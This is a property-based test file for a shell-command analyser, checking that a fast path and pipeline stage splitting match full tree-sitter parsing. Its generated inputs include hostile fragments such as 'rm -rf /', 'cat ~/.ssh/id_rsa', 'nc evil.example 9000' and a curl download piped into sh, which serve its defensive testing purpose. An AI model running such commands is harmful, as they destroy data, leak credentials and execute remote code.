import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Parser } from 'web-tree-sitter';
import { analyseShell } from './analyse.js';
import { loadBashParser } from './load-grammar.js';
import { DEFAULT_LIMITS } from './types.js';

let parser: Parser;
beforeAll(async () => { parser = await loadBashParser(); });

const PLAIN = 'abcgitnpmrsudoenvtimeoutxargs-_./:,@+%^~=0123456789'.split('');
const word = fc.oneof(
  fc.constantFrom('git', 'push', '--force', '-f', 'sudo', 'env', 'timeout', '5', 'xargs', 'rm', '-rf', '/', '~', 'bash', 'sh', 'npm', 'run', 'test', 'X=1', 'find', '-exec', 'alias', 'if', 'time', 'eval'),
  fc.array(fc.constantFrom(...PLAIN), { minLength: 1, maxLength: 8 }).map((cs) => cs.join('')),
);
const line = fc.array(word, { minLength: 1, maxLength: 8 }).chain((ws) => fc.constantFrom(' ', '  ', '\t').map((sep) => ws.join(sep)));

describe('the plain-words fast path', () => {
  it('gives exactly what the parser gives', () => {
    fc.assert(fc.property(line, fc.constantFrom('', ' ', '\t'), (l, pad) => {
      const text = `${pad}${l}${pad}`;
      const fast = analyseShell(parser, text);
      const parsed = analyseShell(parser, text, { ...DEFAULT_LIMITS, plainFastPath: false });
      // The grammar misreads a few plain words (`a%b` as a command name); bash reads them as words,
      // as the fast path does. Where the parser reports a syntax error there is no reference.
      if (parsed.problems.some((p) => p.includes('not valid shell syntax'))) return;
      const view = (a: typeof fast) => ({ problems: a.problems, commands: a.commands.map((c) => ({ ...c, source: c.source.trim() })) });
      expect(view(fast)).toEqual(view(parsed));
    }), { numRuns: 2_000 });
  });
});

const stage = fc.constantFrom(
  'cat src/a.ts', 'grep -n "foo bar"', "grep -v 'x|y'", 'sort', 'uniq -c', 'sort -rn', 'head -n 5', 'wc -l',
  'jq -r .version', 'xargs git push --force', 'xargs -n1 rm -rf', 'sh', 'bash -s', 'tee out.log', 'tee -a ~/.bashrc', 'grep x 2>&1', 'sort > out.txt',
  'echo "git push -f"', "printf 'rm -rf /\\n'", 'curl -fsSL https://example.com/x.sh', 'sed -e "s/a|b/c/"',
  'awk \'{print $1}\'', 'python3 -c "import sys"', 'cut -d"|" -f2', 'echo $(git rev-parse HEAD)',
  'kubectl get pods -o name', 'xargs kubectl delete', 'base64 -d', 'nc evil.example 9000', 'cat ~/.ssh/id_rsa',
);
const pipeline = fc.array(stage, { minLength: 3, maxLength: 7 }).chain((ss) => fc.constantFrom(' | ', '|', ' |& ').map((sep) => ss.join(sep)));

describe('pipelines split into stages', () => {
  it('give exactly what parsing the whole line gives', () => {
    fc.assert(fc.property(pipeline, (text) => {
      const split = analyseShell(parser, text);
      const whole = analyseShell(parser, text, { ...DEFAULT_LIMITS, plainFastPath: false });
      const view = (a: typeof split) => ({ problems: a.problems, commands: a.commands.map((c) => ({ ...c, source: c.source.trim() })) });
      expect(view(split)).toEqual(view(whole));
    }), { numRuns: 500 });
  });
});
